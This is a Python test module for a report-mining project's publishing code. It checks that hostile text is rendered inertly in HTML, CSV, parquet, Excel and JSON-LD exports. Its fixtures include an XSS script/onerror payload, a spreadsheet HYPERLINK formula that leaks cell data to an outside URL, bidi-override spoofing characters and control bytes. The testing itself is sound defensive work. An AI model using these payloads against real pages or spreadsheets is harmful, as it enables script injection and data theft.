"""What a report says is shown as text in every output: pages, tables, workbooks, exports."""

from __future__ import annotations

import csv
import dataclasses
import json
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from types import ModuleType
from xml.etree import ElementTree
from zipfile import ZipFile

import polars as pl
import pytest

from report_mining.publishing import ExportFormat, export_release, write_release
from report_mining.publishing.neutralising import clean_text, is_formula_like
from report_mining.publishing.sheets import EXCEL_CELL_LIMIT
from report_mining.records import Company, Release
from report_mining.taxonomies.codes import Framework, Stance

HOSTILE = {
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("https://example.org/?leak="&A1;"We endorse")',
    "direction": "We \u202eton od\u202c endorse \u2066the Guidelines\u2069",
    "nul": "We endorse\x00 the\x1b[31m Guidelines\ud800",
    "long": "OECD Guidelines " * 65_536,  # one line of a megabyte
}
csv.field_size_limit(10_000_000)
PARTS = ("script", "img", "iframe", "svg", "object", "embed", "base", "style", "form")


def hostile_release(fake: ModuleType) -> Release:
    """Return the invented release with a company, file and sentence for each hostile text."""
    companies, reports, matches, years = [], [], [], []
    for number, text in enumerate(HOSTILE.values()):
        key, file, short = f"H{number}{text[:60]}", f"{number}{text[:80]}", text[:90]
        said = dataclasses.replace(
            fake.finding(str(number), 3, "q", "q", Stance.ENDORSE),
            quote=text, mention=text[:20], section_path=(short,), page_label=text[:9], rule="R5",
        )  # fmt: skip
        decided = fake.judgement(1, fake.YES, short, (said.finding_id,), 0.9)
        companies.append(Company(key, text[:200], (text[:50],), sector=short, sbi=text[:9]))
        reports.append(
            fake.report("x.pdf", (said,), report_id=said.report_id, file_name=file, detail=short)
        )
        match = fake.match("x.pdf", "C", 2023, report_id=said.report_id)
        matches.append(dataclasses.replace(match, file=file, company_id=key, note=short))
        years.append(
            fake.company_year(
                key, 2023, fake.all_levels(Framework.OECD_MNE, Stance.ENDORSE, decided)
            )
        )
    return dataclasses.replace(
        fake.RELEASE,
        companies=tuple(companies),
        reports=tuple(reports),
        matches=tuple(matches),
        company_years=tuple(years),
        review=(),
    )


@pytest.fixture(scope="module")
def hostile(fake: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile")
    write_release(hostile_release(fake), {}, out, fake.DEFINITIONS)
    for shape in ExportFormat:
        export_release(out, shape)
    return out


class Page(HTMLParser):
    """Collects elements, handlers, links and text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read_pages(out: Path) -> list[str]:
    said: list[str] = []
    for path in out.rglob("*.html"):
        page = Page()
        page.feed(path.read_text("utf-8"))
        page.close()
        drawn = path.name == "index.html"
        assert page.tags.count("script") == 1
        assert {tag for tag in PARTS if tag in page.tags} <= {
            "script",
            "form",
            "svg" if drawn else "",
        }
        assert page.handlers == []
        assert not [link for link in page.links if ":" in link.partition("?")[0]]
        said.append("".join(page.text))
    return said


def read_csv(*paths: Path) -> list[str]:
    cells: list[str] = []
    for path in paths:
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        assert len({len(row) for row in rows}) == 1, path.name
        cells += [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if is_formula_like(cell) and not is_number(cell)]
    return [cell.removeprefix("'") for cell in cells]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def read_parquet(out: Path) -> list[str]:
    frames = [pl.read_parquet(path) for path in (out / "release").glob("*.parquet")]
    return [
        text
        for frame in frames
        for column in frame.select(pl.col(pl.String)).iter_columns()
        for text in column.drop_nulls().to_list()
    ]


def read_workbook(path: Path) -> list[str]:
    with ZipFile(path) as book:
        for name in book.namelist():
            if name.endswith(".xml"):
                root = ElementTree.fromstring(book.read(name))
                assert not [e for e in root.iter() if e.tag.endswith(("}f", "}hyperlink"))], name
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
    texts = ["".join(item.itertext()) for item in shared]
    assert not [text for text in texts if is_formula_like(text)]
    assert max(map(len, texts)) <= EXCEL_CELL_LIMIT
    return [text.removeprefix("'") for text in texts]


def read_linked(path: Path) -> list[str]:
    nodes = json.loads(path.read_text("utf-8"))["@graph"]
    ids = [node["@id"] for node in nodes]
    assert all(id_.isascii() and " " not in id_ and "<" not in id_ for id_ in ids)
    quotes = [node["prov:value"] for node in nodes if "prov:value" in node]
    return [quote["@value"] if isinstance(quote, dict) else quote for quote in quotes]


OUTPUTS: dict[str, Callable[[Path], list[str]]] = {
    "pages": read_pages,
    "tables": lambda out: read_csv(*(out / "release").glob("*.csv")),
    "parquet": read_parquet,
    "workbook": lambda out: read_workbook(out / "release" / "report-mining.xlsx"),
    "wide-csv": lambda out: read_csv(out / "export-wide.csv"),
    "wba": lambda out: read_csv(out / "export-wba.csv"),
    "wikirate-csv": lambda out: read_csv(out / "export-wikirate.csv"),
    "jsonld": lambda out: read_linked(out / "export.jsonld"),
    "xlsx": lambda out: read_workbook(out / "export.xlsx"),
}


@pytest.mark.parametrize("output", OUTPUTS)
def test_hostile_text_is_shown_as_text(hostile: Path, output: str) -> None:
    shown = OUTPUTS[output](hostile)
    assert not [text[:80] for text in shown if clean_text(text) != text]
    for name, text in HOSTILE.items():
        wanted = clean_text(text)[:400]  # comments and cells may cut a long quote
        assert any(wanted in cell for cell in shown), (output, name)


def test_the_data_package_counts_what_was_neutralised(hostile: Path) -> None:
    safety = json.loads((hostile / "release" / "datapackage.json").read_text("utf-8"))[
        "text_safety"
    ]
    assert safety["cells_neutralised"]["findings"] > 0
    assert safety["characters_replaced"]["findings"] > 0
